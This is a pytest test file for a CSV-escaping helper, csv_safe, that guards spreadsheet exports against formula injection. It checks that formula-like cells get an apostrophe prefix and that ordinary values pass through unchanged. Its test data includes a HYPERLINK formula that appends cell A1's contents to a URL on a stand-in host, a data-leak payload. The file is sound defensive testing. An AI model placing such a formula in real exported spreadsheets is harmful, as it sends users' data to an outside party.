from __future__ import annotations

from decimal import Decimal

import pytest

from commonweal.core.spreadsheets import csv_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/x?leak="&A1, "Click me")',
        "+44 1375 000000",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Grays Library", "Grays Library"),
        ("Tea = friendship", "Tea = friendship"),
        ("", ""),
        (None, ""),
        (0, "0"),
        (-3, "-3"),
        (Decimal("-0.5"), "-0.5"),
        (True, "True"),
    ],
)
def test_other_values_are_written_as_they_are(value: object, cell: str) -> None:
    assert csv_safe(value) == cell
